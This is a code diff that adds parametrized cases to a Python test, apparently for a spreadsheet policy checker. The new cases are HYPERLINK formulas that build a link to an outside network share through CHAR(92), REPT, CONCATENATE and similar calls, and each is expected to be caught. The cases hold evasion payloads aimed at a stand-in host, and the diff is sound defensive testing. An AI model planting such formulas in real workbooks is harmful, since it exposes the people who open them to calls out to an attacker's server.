@@ -690,6 +690,15 @@ def test_a_fetching_function_passed_by_name(policy: Policy) -> None:
         ("HYPERLINK(B1)", False),  # an address in a cell is not followed
         ('"HYPERLINK(""\\\\h.example\\s"")"', False),  # text
         ('HYPERLINK("https://example.com/" & "page")', False),
+        # a share's \\ made by calls on constants (a red team's workbooks were approved)
+        ('HYPERLINK(CHAR(92)&CHAR(92)&"h.example\\s\\x.pdf","Open")', True),
+        ('HYPERLINK(_xlfn.UNICHAR(92)&UNICHAR(92)&"h.example\\s")', True),
+        ('HYPERLINK(REPT("\\",2)&"h.example\\s")', True),
+        ('HYPERLINK(CONCATENATE("\\","\\h.example\\s"))', True),
+        ('HYPERLINK(_xlfn.CONCAT(REPT(CHAR(92),2),"h.example\\s"))', True),
+        ('HYPERLINK("https://example.com/?q="&CHAR(65))', False),
+        ('HYPERLINK(CHAR(104)&"ttps://example.com/")', False),
+        ('HYPERLINK(CHAR(0)&CHAR(92)&"h.example\\s")', False),  # CHAR(0) is an error in Excel
     ],
 )
 def test_hyperlink_first_argument_however_spelt(formula: str, share: bool) -> None:
